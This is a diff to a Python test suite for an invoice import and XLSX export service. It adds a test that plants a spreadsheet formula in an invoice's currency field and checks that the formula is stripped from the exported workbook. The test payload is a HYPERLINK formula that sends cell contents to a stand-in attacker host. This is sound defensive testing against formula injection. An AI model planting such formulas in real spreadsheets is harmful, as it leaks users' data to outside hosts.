@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 from datetime import UTC, date, datetime
 from decimal import Decimal
+from pathlib import Path
 from typing import Any
 
 import openpyxl
@@ -186,3 +187,14 @@ def test_text_no_worksheet_can_hold_is_made_storable() -> None:
     assert book["Invoices"]["A2"].value == "ACME Ltd"
     description = book["Line items"]["D2"].value
     assert len(description) == 32_767 and description.startswith("'=x") and description.endswith("…")
+
+
+def test_a_currency_that_is_a_formula_is_no_currency(client: TestClient) -> None:
+    sample = (Path(__file__).parents[1] / "samples" / "ubl_invoice.xml").read_bytes()
+    formula = b'=HYPERLINK("http://evil.example/?"&amp;A2,"Click")'
+    hostile = sample.replace(b">EUR</cbc:DocumentCurrencyCode>", b">" + formula + b"</cbc:DocumentCurrencyCode>")
+    invoice = upload(client, hostile, "invoice.xml").json()
+    assert invoice["currency"] is None and invoice["total_amount"] == "357.00"
+    book = _workbook(client.get("/api/export/download-xlsx").content)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
